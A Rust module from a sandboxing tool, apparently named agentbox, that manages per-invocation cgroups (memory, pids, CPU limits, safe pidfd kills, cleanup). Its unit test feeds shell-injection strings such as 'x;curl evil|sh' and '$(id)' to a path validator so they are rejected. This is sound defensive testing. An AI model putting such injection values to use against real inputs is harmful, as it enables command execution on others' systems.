//! One cgroup per invocation (v1 and v2, with cgroups-rs): memory (swap included),
//! pids, CPU; every process killed and the cgroup removed at the end.
//!
//! Runs in the supervisor. The parent is `$AGENTBOX_CGROUP_PARENT`, else `agentbox`
//! for root and `agentbox-<uid>` for other users (delegated to them by an admin,
//! see `agentbox doctor`).

use cgroups_rs::CgroupPid;
use cgroups_rs::fs::cpu::CpuController;
use cgroups_rs::fs::cpuacct::CpuAcctController;
use cgroups_rs::fs::hierarchies;
use cgroups_rs::fs::memory::MemController;
use cgroups_rs::fs::pid::PidController;
use cgroups_rs::fs::{Cgroup, Controller, MaxValue};
use std::time::Duration;

/// Which cgroup interface is in use.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Version {
    V1,
    V2,
}

impl Version {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::V1 => "v1",
            Self::V2 => "v2",
        }
    }

    pub fn detect() -> Self {
        if hierarchies::is_cgroup2_unified_mode() {
            Self::V2
        } else {
            Self::V1
        }
    }
}

/// Limits for one invocation's cgroup.
#[derive(Debug, Clone, Copy)]
pub struct CgroupLimits {
    pub memory_bytes: u64,
    pub pids: u32,
    /// CPU bandwidth in CPUs (1.0 = one core).
    pub cpus: f64,
}

/// Why a cgroup could not be set up.
#[derive(Debug, thiserror::Error)]
pub enum CgroupError {
    #[error("cgroup {path}: {message}; {fix}")]
    Setup {
        path: String,
        message: String,
        fix: String,
    },
}

/// The parent cgroup name for this user.
pub fn parent_name() -> String {
    if let Some(p) = std::env::var_os("AGENTBOX_CGROUP_PARENT").filter(|p| !p.is_empty()) {
        return p.to_string_lossy().trim_matches('/').to_string();
    }
    let uid = nix::unistd::geteuid().as_raw();
    if uid == 0 {
        "agentbox".into()
    } else {
        format!("agentbox-{uid}")
    }
}

/// A parent name agentbox uses as given: a relative cgroup path of plain
/// components (it ends up in paths and in the shell commands `doctor` prints).
pub fn parent_valid(parent: &str) -> bool {
    !parent.is_empty()
        && parent
            .split('/')
            .all(|c| !c.is_empty() && c != "." && c != "..")
        && parent
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._@:/-".contains(c))
}

/// What an administrator does so that this user's invocations get cgroups.
pub fn fix_text(version: Version) -> String {
    let uid = nix::unistd::geteuid().as_raw();
    let parent = parent_name();
    if !parent_valid(&parent) {
        return "set AGENTBOX_CGROUP_PARENT to a cgroup path below /sys/fs/cgroup: letters, digits and . _ @ : - between slashes, no `..`".into();
    }
    match (version, uid) {
        (_, 0) => "is cgroupfs mounted read-write at /sys/fs/cgroup?".into(),
        (Version::V1, _) => format!(
            "ask an administrator to delegate a cgroup: for c in memory pids cpu,cpuacct; do mkdir -p /sys/fs/cgroup/$c/{parent} && chown -R {uid} /sys/fs/cgroup/$c/{parent}; done"
        ),
        (Version::V2, _) => format!(
            "ask an administrator to delegate a cgroup and start your shell inside it: as root, P='/sys/fs/cgroup/{parent}'; mkdir -p \"$P/session\" && chown {uid} \"$P\" \"$P/cgroup.procs\" \"$P/cgroup.threads\" \"$P/cgroup.subtree_control\" && chown -R {uid} \"$P/session\" && echo '+memory +pids +cpu' > \"$P/cgroup.subtree_control\" (with memory, pids and cpu enabled in its parent's too), then move your shell there, also as root: echo PID_OF_YOUR_SHELL > \"$P/session/cgroup.procs\" (a user cannot move itself out of a cgroup it was not delegated; under systemd: a unit with Delegate=yes whose processes sit in a leaf, e.g. DelegateSubgroup=, and AGENTBOX_CGROUP_PARENT naming an empty cgroup beside them)"
        ),
    }
}

/// A live cgroup for one invocation.
#[derive(Debug)]
pub struct InvocationCgroup {
    cg: Cgroup,
    pub version: Version,
    /// Path relative to the hierarchy root.
    pub path: String,
    pub limits: CgroupLimits,
}

const CONTROLLERS_V1: &[&str] = &["memory", "pids", "cpu", "cpuacct"];
const CONTROLLERS_V2: &[&str] = &["memory", "pids", "cpu"];

impl InvocationCgroup {
    /// Creates `<parent>/<name>` with the limits applied.
    pub fn create(name: &str, limits: CgroupLimits) -> Result<Self, CgroupError> {
        let version = Version::detect();
        let parent = parent_name();
        let path = format!("{parent}/{name}");
        let err = |message: String| CgroupError::Setup {
            path: path.clone(),
            message,
            fix: fix_text(version),
        };
        if !parent_valid(&parent) {
            return Err(err(format!("`{parent}` is not a usable cgroup parent")));
        }
        let controllers: Vec<String> = match version {
            Version::V1 => CONTROLLERS_V1,
            Version::V2 => CONTROLLERS_V2,
        }
        .iter()
        .map(|s| s.to_string())
        .collect();
        let cg =
            Cgroup::new_with_specified_controllers(hierarchies::auto(), &path, Some(controllers))
                .map_err(|e| err(format!("cannot create: {e}")))?;
        let me = Self {
            cg,
            version,
            path: path.clone(),
            limits,
        };
        let mem: &MemController = me
            .cg
            .controller_of()
            .ok_or_else(|| err("no memory controller".into()))?;
        let bytes = i64::try_from(limits.memory_bytes).unwrap_or(i64::MAX);
        mem.set_limit(bytes)
            .map_err(|e| err(format!("memory limit: {e}")))?;
        // No swap escape: memory+swap capped at the same value where the kernel
        // accounts swap (v1 memsw, v2 swap.max = 0).
        match version {
            Version::V1 => {
                if std::path::Path::new(&format!(
                    "/sys/fs/cgroup/memory/{path}/memory.memsw.limit_in_bytes"
                ))
                .exists()
                {
                    mem.set_memswap_limit(bytes)
                        .map_err(|e| err(format!("memory+swap limit: {e}")))?;
                }
            }
            Version::V2 => {
                let swap = format!("/sys/fs/cgroup/{path}/memory.swap.max");
                if std::path::Path::new(&swap).exists() {
                    std::fs::write(&swap, "0").map_err(|e| err(format!("memory.swap.max: {e}")))?;
                }
            }
        }
        let pids: &PidController = me
            .cg
            .controller_of()
            .ok_or_else(|| err("no pids controller".into()))?;
        pids.set_pid_max(MaxValue::Value(i64::from(limits.pids)))
            .map_err(|e| err(format!("pids limit: {e}")))?;
        let cpu: &CpuController = me
            .cg
            .controller_of()
            .ok_or_else(|| err("no cpu controller".into()))?;
        let period: u64 = 100_000;
        let quota = (limits.cpus * period as f64) as i64;
        cpu.set_cfs_quota_and_period(Some(quota.max(1000)), Some(period))
            .map_err(|e| err(format!("cpu quota: {e}")))?;
        Ok(me)
    }

    /// On v2, the cgroup's directory, to start a worker in it (`CLONE_INTO_CGROUP`):
    /// no migration, and the worker never runs outside its cgroup. `None` on v1,
    /// where the supervisor moves the worker with [`Self::add`].
    pub fn clone_into(&self) -> Result<Option<std::os::fd::OwnedFd>, CgroupError> {
        if self.version != Version::V2 {
            return Ok(None);
        }
        let dir = self
            .cg
            .controller_of::<PidController>()
            .map(|c| c.path().to_path_buf())
            .ok_or_else(|| CgroupError::Setup {
                path: self.path.clone(),
                message: "no pids controller".into(),
                fix: fix_text(self.version),
            })?;
        std::fs::File::open(&dir)
            .map(|f| Some(std::os::fd::OwnedFd::from(f)))
            .map_err(|e| CgroupError::Setup {
                path: self.path.clone(),
                message: format!("cannot open {}: {e}", dir.display()),
                fix: fix_text(self.version),
            })
    }

    /// Moves a process (and so all its future children) into the cgroup.
    pub fn add(&self, pid: u32) -> Result<(), CgroupError> {
        self.cg
            .add_task_by_tgid(CgroupPid::from(u64::from(pid)))
            .map_err(|e| CgroupError::Setup {
                path: self.path.clone(),
                message: format!("cannot add process {pid}: {e}"),
                fix: fix_text(self.version),
            })
    }

    /// Processes in the cgroup now.
    pub fn procs(&self) -> Vec<u64> {
        self.cg.procs().into_iter().map(|p| p.pid).collect()
    }

    /// Was a process of the cgroup killed by the memory limit?
    pub fn oom_killed(&self) -> bool {
        let Some(mem) = self.cg.controller_of::<MemController>() else {
            return false;
        };
        match self.version {
            Version::V1 => {
                let stat = mem.memory_stat();
                stat.oom_control.oom_kill > 0 || (stat.fail_cnt > 0 && stat.oom_control.under_oom)
            }
            // cgroups-rs reads no OOM count on v2 (its `oom_control` stays zero):
            // the kernel's are in `memory.events` (this cgroup and below). `oom`
            // counts this cgroup's limit being hit, so a kill by the global OOM
            // killer or an ancestor's limit is not blamed on the tool's.
            Version::V2 => {
                let events =
                    std::fs::read_to_string(mem.path().join("memory.events")).unwrap_or_default();
                let count = |key: &str| {
                    events
                        .lines()
                        .find_map(|l| l.strip_prefix(key)?.trim().parse::<u64>().ok())
                        .unwrap_or(0)
                };
                count("oom ") > 0 && count("oom_kill ") > 0
            }
        }
    }

    /// CPU time used by every process of the cgroup.
    pub fn cpu_used(&self) -> Duration {
        // One file, read directly: cgroups-rs's accessors read every cpuacct file,
        // and this runs on the supervisor's serving loop.
        match self.version {
            Version::V1 => self
                .cg
                .controller_of::<CpuAcctController>()
                .and_then(|c| std::fs::read_to_string(c.path().join("cpuacct.usage")).ok())
                .and_then(|t| t.trim().parse::<u64>().ok())
                .map(Duration::from_nanos)
                .unwrap_or_default(),
            Version::V2 => {
                let stat = self
                    .cg
                    .controller_of::<CpuController>()
                    .and_then(|c| std::fs::read_to_string(c.path().join("cpu.stat")).ok())
                    .unwrap_or_default();
                let usec = stat
                    .lines()
                    .find_map(|l| l.strip_prefix("usage_usec "))
                    .and_then(|v| v.trim().parse::<u64>().ok())
                    .unwrap_or(0);
                Duration::from_micros(usec)
            }
        }
    }

    /// Kills every process in the cgroup (repeating until it is empty).
    pub fn kill_all(&self) {
        if self.version == Version::V2 && self.cg.kill().is_ok() {
            for _ in 0..200 {
                if self.procs().is_empty() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(1));
            }
        }
        for _ in 0..1000 {
            let procs = self.procs();
            if procs.is_empty() {
                return;
            }
            for p in procs {
                self.kill_member(p);
            }
            std::thread::sleep(Duration::from_millis(1));
        }
    }

    /// SIGKILL to `pid` only if it is (still) a member of this cgroup, through a
    /// pidfd: the pidfd pins the process, the membership is read while it is
    /// alive, so a pid recycled since `cgroup.procs` was read is never signalled
    /// (catalog SUP-15).
    fn kill_member(&self, pid: u64) {
        use nix::libc;
        use std::os::fd::{FromRawFd, OwnedFd};
        // SAFETY: pidfd_open on a process id, no flags; returns a new descriptor.
        let fd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid as libc::pid_t, 0) };
        if fd < 0 {
            return;
        }
        // SAFETY: the descriptor was just created and nothing else owns it.
        let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
        let send = |sig: i32| {
            use std::os::fd::AsFd;
            crate::pidfd_signal(fd.as_fd(), sig).is_ok()
        };
        let ours = format!(":/{}", self.path.trim_matches('/'));
        let member = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).is_ok_and(|t| {
            t.lines().any(|l| {
                l.find(":/").is_some_and(|i| {
                    l[i..]
                        .strip_prefix(ours.as_str())
                        .is_some_and(|r| r.is_empty() || r.starts_with('/'))
                })
            })
        });
        // Still alive after the read: the membership read was of this process.
        if member && send(0) {
            send(libc::SIGKILL);
        }
    }

    /// Kills what is left and removes the cgroup.
    pub fn destroy(self) -> Result<(), CgroupError> {
        self.kill_all();
        let mut last = String::new();
        for _ in 0..100 {
            match self.cg.delete() {
                Ok(()) => return Ok(()),
                Err(e) => last = e.to_string(),
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        Err(CgroupError::Setup {
            path: self.path.clone(),
            message: format!("cannot remove: {last}"),
            fix: "processes may be left behind".into(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::parent_valid;

    /// A parent from AGENTBOX_CGROUP_PARENT ends up in paths and in the shell
    /// commands doctor prints: only plain relative components pass.
    #[test]
    fn parent_names_are_plain_relative_paths() {
        for ok in [
            "agentbox",
            "agentbox-1000",
            "user.slice/user@1000.service/agentbox",
            "cgroup.procs/x",
        ] {
            assert!(parent_valid(ok), "{ok}");
        }
        for bad in [
            "",
            "..",
            "a/../b",
            "a//b",
            "./a",
            "x;curl evil|sh",
            "a b",
            "$(id)",
            "a'b",
        ] {
            assert!(!parent_valid(bad), "{bad}");
        }
    }
}
